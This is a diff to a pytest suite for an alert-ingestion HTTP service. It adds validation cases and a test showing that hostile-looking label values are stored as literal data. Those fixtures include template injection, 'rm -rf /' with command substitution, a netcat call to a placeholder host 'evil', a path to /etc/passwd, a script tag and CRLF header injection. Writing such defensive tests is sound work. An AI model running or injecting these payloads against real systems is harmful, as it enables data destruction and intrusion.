@@ -62,6 +62,15 @@ def test_invalid_utf8_is_400(ingest: Ingest, nothing_reaches_kafka):
         ({"labels": {"a": "b"}, "startsAt": 12345}, "startsAt"),
         ({"labels": {}}, "labels"),
         ({"labels": {"": "x"}}, "labels"),
+        ({"labels": {" ": "x"}}, "labels"),  # blank name
+        ({"labels": {"a\u200bb": "x"}}, "labels"),  # an invisible character in a name
+        ({"labels": {f"l{i}": "v" for i in range(10_000)}}, "labels"),  # 10,000 labels
+        ({"labels": {"a": "v" * 100_000}}, "labels"),  # a 100 KB label value
+        ({"labels": {"a": "b"}, "annotations": {"summary": "s" * 100_000}}, "annotations"),
+        ({"labels": {"a": "b"}, "startsAt": "2999-01-01T00:00:00Z"}, "startsAt"),  # far future: a broken clock
+        ({"labels": {"a": "b"}, "startsAt": "2026-03-01T10:00:00Z", "endsAt": "2026-03-01T09:00:00Z"}, "endsAt"),
+        ({"labels": {"a": "b"}, "generatorURL": "http://x/" + "a" * 5000}, "generatorURL"),
+        ({"labels": {"a": "b"}, "colour": "red"}, "colour"),  # unknown field: a typo is not silently dropped
     ],
 )
 def test_wrong_shapes_are_422_naming_the_field(ingest: Ingest, nothing_reaches_kafka, alert, field):
@@ -89,6 +98,34 @@ def test_hostile_json_is_refused_with_the_reason(ingest: Ingest, nothing_reaches
     response = ingest.post("/api/v1/alerts", body)
     assert response.status_code == status and response.json()["error"] == reason, response.text
     assert ingest.get("/healthz", token=None).status_code == 200  # still serving
+
+
+@pytest.mark.parametrize(
+    "labels",
+    [
+        {"alertname": "Inert", "service": "{{ 7 * 7 }}", "x": "{% for i in range(10**9) %}{% endfor %}"},
+        {"alertname": "Inert", "service": "; rm -rf / $(id) `id` | nc evil 1 & --help"},
+        {"alertname": "Inert", "service": "../../etc/passwd", "x": "<script>alert(1)</script>"},
+        {"alertname": "Inert", "service": "<!channel> *bold* \r\nX-Injected: 1"},
+    ],
+)
+def test_hostile_but_valid_labels_are_data_kept_literally(stack: Stack, ingest: Ingest, labels):
+    """Templates, shell syntax, paths and markup in labels are accepted as plain data: stored byte for byte,
+    never evaluated (templates render labels as values; commands get them as one argv item)."""
+    before = stack.end_offsets("alerts")
+    response = ingest.post("/api/v1/alerts", json.dumps([{"labels": labels}]))
+    assert response.status_code == 202, response.text
+    wait_until(lambda: stack.end_offsets("alerts") == before + 1, 10, "the alert on Kafka")
+    fingerprint = response.json()["fingerprints"][0]
+    stored = [json.loads(v) for v in stack.read_topic("alerts") if fingerprint.encode() in v]
+    assert stored and stored[-1]["labels"] == labels
+
+
+def test_truncated_json_is_400(ingest: Ingest, nothing_reaches_kafka):
+    body = json.dumps([{"labels": {"alertname": "A"}, "annotations": {"summary": "x" * 100}}])
+    for cut in (1, len(body) // 2, len(body) - 1):
+        response = ingest.post("/api/v1/alerts", body[:cut])
+        assert response.status_code == 400 and response.json()["error"] == "malformed_json", (cut, response.text)
 
 
 def test_one_bad_alert_rejects_the_whole_batch(ingest: Ingest, nothing_reaches_kafka):
